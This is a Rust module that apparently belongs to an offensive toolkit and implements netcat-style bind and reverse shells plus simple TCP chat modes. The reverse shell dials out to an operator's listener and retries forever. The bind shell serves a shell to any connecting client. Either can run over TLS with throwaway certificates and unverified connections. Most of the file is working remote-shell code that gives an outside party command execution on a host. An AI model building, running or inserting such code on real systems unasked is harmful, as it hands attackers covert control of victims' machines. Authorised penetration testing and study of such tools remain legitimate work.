//! Netcat-style TCP primitives: bind and reverse shells plus plain
//! call/listen chat modes, each optionally wrapped in TLS with a
//! throwaway certificate.

pub mod shell;

use std::io::{self, ErrorKind};
use std::time::Duration;

use log::{error, info, warn};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};
use tokio::time::sleep;
use tokio_rustls::client::TlsStream;
use tokio_rustls::rustls::pki_types::ServerName;
use tokio_rustls::{TlsAcceptor, TlsConnector};

use crate::encryption::{generate_server_identity, insecure_client_config, tls_acceptor};
use crate::netcat::shell::spawn_shell;

/// Delay between reverse-shell connection attempts.
const RETRY_INTERVAL: Duration = Duration::from_secs(5);

/// Serves a shell to every client that connects to the given port.
/// Each session gets its own shell process.
pub async fn bind_shell(port: u16, tls: bool) -> io::Result<()> {
    let listener = TcpListener::bind(("0.0.0.0", port)).await?;
    let acceptor = if tls { Some(fresh_acceptor()?) } else { None };
    info!("[NETCAT] Bind shell listening on 0.0.0.0:{}", port);

    loop {
        let (stream, peer) = match listener.accept().await {
            Ok(pair) => pair,
            Err(e) => {
                error!("[NETCAT] Accept failed: {}", e);
                continue;
            }
        };
        info!("[NETCAT] Shell session from {}", peer);
        let acceptor = acceptor.clone();
        tokio::spawn(async move {
            let result = match acceptor {
                Some(acceptor) => match acceptor.accept(stream).await {
                    Ok(stream) => serve_shell(stream).await,
                    Err(e) => {
                        warn!("[NETCAT] TLS accept from {} failed: {}", peer, e);
                        return;
                    }
                },
                None => serve_shell(stream).await,
            };
            if let Err(e) = result {
                warn!("[NETCAT] Session with {} ended with error: {}", peer, e);
            }
        });
    }
}

/// Dials out to an operator listener and serves a shell over the
/// connection. Retries forever: failed dials wait out the retry
/// interval, finished sessions reconnect immediately.
pub async fn reverse_shell(address: &str, port: u16, tls: bool) -> io::Result<()> {
    loop {
        let stream = match TcpStream::connect((address, port)).await {
            Ok(stream) => stream,
            Err(e) => {
                warn!(
                    "[NETCAT] Connect to {}:{} failed: {}; retrying in {:?}",
                    address, port, e, RETRY_INTERVAL
                );
                sleep(RETRY_INTERVAL).await;
                continue;
            }
        };
        info!("[NETCAT] Connected to {}:{}", address, port);

        let result = if tls {
            match tls_connect(stream, address).await {
                Ok(stream) => serve_shell(stream).await,
                Err(e) => {
                    warn!("[NETCAT] TLS handshake with {}:{} failed: {}", address, port, e);
                    sleep(RETRY_INTERVAL).await;
                    continue;
                }
            }
        } else {
            serve_shell(stream).await
        };
        match result {
            Ok(()) => info!("[NETCAT] Session closed; reconnecting"),
            Err(e) => warn!("[NETCAT] Session error: {}; reconnecting", e),
        }
    }
}

/// Connects to `address:port` and bridges the connection to the local
/// terminal. Returns when either side closes.
pub async fn call(address: &str, port: u16, tls: bool) -> io::Result<()> {
    let stream = TcpStream::connect((address, port)).await?;
    info!("[NETCAT] Connected to {}:{}", address, port);
    if tls {
        let stream = tls_connect(stream, address).await?;
        bridge_stdio(stream).await
    } else {
        bridge_stdio(stream).await
    }
}

/// Waits for a single inbound connection and bridges it to the local
/// terminal.
pub async fn listen(port: u16, tls: bool) -> io::Result<()> {
    let listener = TcpListener::bind(("0.0.0.0", port)).await?;
    info!("[NETCAT] Listening on 0.0.0.0:{}", port);
    let (stream, peer) = listener.accept().await?;
    info!("[NETCAT] Connection from {}", peer);
    if tls {
        let acceptor = fresh_acceptor()?;
        let stream = acceptor.accept(stream).await?;
        bridge_stdio(stream).await
    } else {
        bridge_stdio(stream).await
    }
}

fn fresh_acceptor() -> io::Result<TlsAcceptor> {
    let identity = generate_server_identity().map_err(|e| io::Error::new(ErrorKind::Other, e))?;
    tls_acceptor(&identity).map_err(|e| io::Error::new(ErrorKind::Other, e))
}

async fn tls_connect(stream: TcpStream, host: &str) -> io::Result<TlsStream<TcpStream>> {
    let name = ServerName::try_from(host.to_string()).map_err(|_| {
        io::Error::new(ErrorKind::InvalidInput, format!("invalid peer name {}", host))
    })?;
    TlsConnector::from(insecure_client_config())
        .connect(name, stream)
        .await
}

/// Wires a connection to a fresh shell process. Socket bytes feed the
/// shell's stdin; stdout and stderr feed the socket. Ends when the
/// peer disconnects or the shell exits.
async fn serve_shell<S>(mut stream: S) -> io::Result<()>
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let mut child = spawn_shell()?;
    let mut stdin = child
        .stdin
        .take()
        .ok_or_else(|| io::Error::new(ErrorKind::Other, "shell stdin unavailable"))?;
    let mut stdout = child
        .stdout
        .take()
        .ok_or_else(|| io::Error::new(ErrorKind::Other, "shell stdout unavailable"))?;
    let mut stderr = child
        .stderr
        .take()
        .ok_or_else(|| io::Error::new(ErrorKind::Other, "shell stderr unavailable"))?;

    let mut sock_buf = [0u8; 4096];
    let mut out_buf = [0u8; 4096];
    let mut err_buf = [0u8; 4096];

    loop {
        tokio::select! {
            read = stream.read(&mut sock_buf) => {
                let n = read?;
                if n == 0 {
                    break;
                }
                stdin.write_all(&sock_buf[..n]).await?;
                stdin.flush().await?;
            }
            read = stdout.read(&mut out_buf) => {
                let n = read?;
                if n == 0 {
                    break;
                }
                stream.write_all(&out_buf[..n]).await?;
            }
            read = stderr.read(&mut err_buf) => {
                let n = read?;
                if n == 0 {
                    break;
                }
                stream.write_all(&err_buf[..n]).await?;
            }
            status = child.wait() => {
                info!("[NETCAT] Shell exited: {}", status?);
                return Ok(());
            }
        }
    }
    child.kill().await.ok();
    Ok(())
}

/// Bridges a connection to the local terminal, chat style. Whichever
/// direction finishes first ends the session.
async fn bridge_stdio<S>(stream: S) -> io::Result<()>
where
    S: AsyncRead + AsyncWrite + Unpin,
{
    let (mut remote_rx, mut remote_tx) = tokio::io::split(stream);
    let mut stdin = tokio::io::stdin();
    let mut stdout = tokio::io::stdout();

    tokio::select! {
        res = tokio::io::copy(&mut stdin, &mut remote_tx) => {
            res?;
        }
        res = tokio::io::copy(&mut remote_rx, &mut stdout) => {
            res?;
        }
    }
    Ok(())
}
